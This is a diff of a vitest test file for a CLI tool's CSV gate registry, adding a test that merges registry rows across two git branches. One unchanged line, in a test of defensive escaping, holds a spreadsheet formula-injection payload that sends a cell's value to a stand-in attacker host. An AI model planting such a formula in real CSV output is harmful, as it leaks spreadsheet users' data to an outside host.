@@ -3,7 +3,7 @@ import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { decodeCell, parseCsv } from '../../src/gates/csv.js';
 import { gateRepo, gateStage, registryText, runFolders } from '../helpers/gates.js';
-import { runCli } from '../helpers/repo.js';
+import { git, runCli } from '../helpers/repo.js';
 
 const S00 = 'stages/mvp/00-foundation.md';
 const REGISTRY = 'gate_results/gate_registry.csv';
@@ -92,5 +92,30 @@ describe('registry cells from untrusted stage text', () => {
     const reportMd = readFileSync(path.join(dir, 'gate_results', runFolders(dir)[0]!, 'report.md'), 'utf8');
     expect(reportMd).toContain('| Stage | P1\\-S00: =HYPERLINK\\("http://evil\\.example/?x="&amp;A1, "click, me"\\) |');
     expect(runCli(dir, ['registry', '--check']).code).toBe(0);
+  });
+});
+
+describe('registry across branches', () => {
+  it('accepts a merge=union merge of two branches that both appended rows', () => {
+    const dir = gateRepo({ [S00]: gateStage('  - id: ok\n    run: "true"') }, { '.gitattributes': 'gate_results/gate_registry.csv merge=union\n' });
+    expect(runCli(dir, ['gate', 'run', 'P1-S00'], { env: { STAGEDOCS_NOW: '2026-11-21T08:00:00Z' } }).code).toBe(0);
+    git(dir, 'add', '-A');
+    git(dir, 'commit', '-qm', 'base run');
+    git(dir, 'checkout', '-q', '-b', 'other');
+    expect(runCli(dir, ['gate', 'run', 'P1-S00'], { env: { STAGEDOCS_NOW: '2026-11-21T10:00:00Z' } }).code).toBe(0);
+    git(dir, 'add', '-A');
+    git(dir, 'commit', '-qm', 'run on other');
+    git(dir, 'checkout', '-q', 'main');
+    expect(runCli(dir, ['gate', 'run', 'P1-S00'], { env: { STAGEDOCS_NOW: '2026-11-21T09:00:00Z' } }).code).toBe(0);
+    git(dir, 'add', '-A');
+    git(dir, 'commit', '-qm', 'run on main');
+    git(dir, 'merge', '-q', '--no-edit', 'other');
+
+    const rows = parseCsv(registryText(dir));
+    expect(rows).toHaveLength(4);
+    const check = runCli(dir, ['registry', '--check']);
+    expect(check.code).toBe(0);
+    expect(check.stdout).toMatch(/3 rows agree with the reports/);
+    expect(runCli(dir, ['validate', '--format', 'json']).stdout).not.toMatch(/registry-consistent/);
   });
 });
